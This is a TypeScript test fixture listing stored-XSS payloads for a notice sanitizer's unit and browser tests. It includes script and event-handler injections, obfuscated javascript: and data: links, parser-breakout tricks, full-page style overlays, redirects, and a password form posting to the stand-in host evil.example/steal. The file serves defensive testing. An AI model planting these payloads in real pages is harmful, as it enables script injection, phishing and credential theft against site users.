/**
 * Stored-script payloads for notice bodies and titles, shared by the sanitizer's unit test and the
 * browser test (e2e/notices-xss.spec.ts). Each aims at one way markup can run script, load a resource
 * from elsewhere, navigate the page or cover it. `keeps` is prose that must survive the cleaning.
 */
export interface XssPayload {
  name: string;
  html: string;
  keeps?: string;
}

export const xssPayloads: XssPayload[] = [
  { name: 'a script tag', html: '<p>앞</p><script>window.__xss = 1; alert(1)</script><p>뒤</p>', keeps: '<p>뒤</p>' },
  { name: 'a script with an outside src', html: '<script src="https://evil.example/x.js"></script><p>본문</p>', keeps: '<p>본문</p>' },
  { name: 'an img onerror', html: '<p>사진<img src="x" onerror="window.__xss = 1; alert(1)"></p>', keeps: '사진' },
  { name: 'an img loading an outside tracker', html: '<img src="https://evil.example/pixel.gif"><p>본문</p>', keeps: '<p>본문</p>' },
  { name: 'an svg onload', html: '<svg onload="window.__xss = 1; alert(1)"><circle r="5"></circle></svg><p>본문</p>', keeps: '<p>본문</p>' },
  { name: 'an svg with a script inside', html: '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>클릭</text></a></svg>' },
  { name: 'a math element with a javascript href', html: '<math><mtext><a href="javascript:alert(1)">수식</a></mtext></math>' },
  { name: 'an iframe', html: '<iframe src="https://evil.example/"></iframe><p>본문</p>', keeps: '<p>본문</p>' },
  { name: 'an iframe srcdoc', html: '<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>' },
  { name: 'an object', html: '<object data="https://evil.example/x.swf"></object><p>본문</p>', keeps: '<p>본문</p>' },
  { name: 'an embed', html: '<embed src="https://evil.example/x.swf"><p>본문</p>', keeps: '<p>본문</p>' },
  { name: 'a javascript: link', html: '<p><a href="javascript:window.__xss=1;alert(1)">눌러보세요</a></p>', keeps: '눌러보세요' },
  { name: 'a javascript: link in mixed case with entities', html: '<a href="JaVaScRiPt&colon;alert(1)">대소문자</a>', keeps: '대소문자' },
  { name: 'a javascript: link split by an encoded tab', html: '<a href="jav&#x09;ascript:alert(1)">탭</a>', keeps: '탭' },
  { name: 'a javascript: link split by a newline', html: '<a href="java\nscript:alert(1)">줄바꿈</a>', keeps: '줄바꿈' },
  { name: 'a javascript: link behind a control character', html: '<a href="&#x01;javascript:alert(1)">제어 문자</a>', keeps: '제어 문자' },
  {
    name: 'a javascript: link fully entity-encoded',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">엔티티</a>',
    keeps: '엔티티',
  },
  { name: 'a data: link', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">데이터</a>', keeps: '데이터' },
  { name: 'a vbscript: link', html: '<a href="vbscript:msgbox(1)">vb</a>', keeps: 'vb' },
  { name: 'a protocol-relative link', html: '<a href="//evil.example/">상대</a>', keeps: '상대' },
  {
    name: 'a link with its own handlers and target',
    html: '<a href="https://example.com/" onmouseover="alert(1)" target="_self" rel="opener">안전한 링크</a>',
    keeps: '안전한 링크',
  },
  { name: 'an event handler on a paragraph', html: '<p onclick="alert(1)" onmouseenter="alert(2)">문단</p>', keeps: '<p>문단</p>' },
  {
    name: 'a style attribute overlay (position:fixed)',
    html: '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:white">가짜 로그인 화면</p>',
    keeps: '<p>가짜 로그인 화면</p>',
  },
  { name: 'a style attribute loading a background', html: '<p style="background:url(https://evil.example/track.png)">배경</p>', keeps: '<p>배경</p>' },
  { name: 'a style tag', html: '<style>body{display:none} @import url(https://evil.example/x.css);</style><p>본문</p>', keeps: '<p>본문</p>' },
  { name: 'a link rel=stylesheet', html: '<link rel="stylesheet" href="https://evil.example/x.css"><p>본문</p>', keeps: '<p>본문</p>' },
  { name: 'a class and id that imitate the app', html: '<p class="toast" id="root">흉내</p>', keeps: '<p>흉내</p>' },
  { name: 'a meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>본문</p>', keeps: '<p>본문</p>' },
  { name: 'a base href', html: '<base href="https://evil.example/"><p>본문</p>', keeps: '<p>본문</p>' },
  {
    name: 'a form posting elsewhere',
    html: '<form action="https://evil.example/steal"><input name="password" type="password"><button>확인</button></form><p>본문</p>',
    keeps: '<p>본문</p>',
  },
  { name: 'a button with formaction', html: '<button formaction="javascript:alert(1)">버튼</button>' },
  {
    name: 'a video and an audio with handlers',
    html: '<video src="x" onerror="alert(1)"></video><audio src="x" onerror="alert(1)"></audio><p>본문</p>',
    keeps: '<p>본문</p>',
  },
  { name: 'a details ontoggle', html: '<details open ontoggle="alert(1)"><summary>요약</summary>펼침</details>', keeps: '펼침' },
  {
    name: 'a template and noscript breakout',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript><template><img src=x onerror=alert(1)></template>',
  },
  { name: 'a textarea breakout', html: '<textarea></textarea><img src=x onerror=alert(1)></textarea>' },
  { name: 'a comment and CDATA trick', html: '<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]><p>본문</p>', keeps: '<p>본문</p>' },
  { name: 'an unclosed attribute quote', html: '<p title="a><img src=x onerror=alert(1)>">따옴표</p>' },
  {
    name: 'unicode full-width and zero-width tricks',
    html: '<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">전각</a><a href="java\u200bscript:alert(1)">폭 없는 공백</a>\u202e<p>방향</p>',
    keeps: '방향',
  },
  { name: 'a right-to-left override in a link', html: '<a href="https://evil.example/\u202Egpj.exe">파일</a>' },
  { name: 'upper-case tags and attributes', html: '<SCRIPT>alert(1)</SCRIPT><IMG SRC=x ONERROR=alert(1)><P>본문</P>', keeps: '<p>본문</p>' },
];
